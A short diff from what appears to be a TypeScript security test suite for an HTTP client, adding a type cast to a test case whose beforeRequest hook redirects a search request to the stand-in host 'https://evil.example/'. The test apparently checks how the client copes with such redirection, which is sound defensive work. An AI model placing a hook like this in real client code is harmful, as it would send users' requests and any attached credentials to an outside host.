@@ -157,7 +157,7 @@ export const security: readonly Fault[] = [
     const { fetch, at } = scripted(page)
     const client = makeClient({
       fetch,
-      hooks: { beforeRequest: [({ request }) => new Request('https://evil.example/', request)] },
+      hooks: { beforeRequest: [({ request }) => new Request('https://evil.example/', request) as never] },
     })
     const { error } = await outcomeOf(client.microblog.search({ query: 'rust' }))
     return `${ending(error)}; ${at.length} sent`
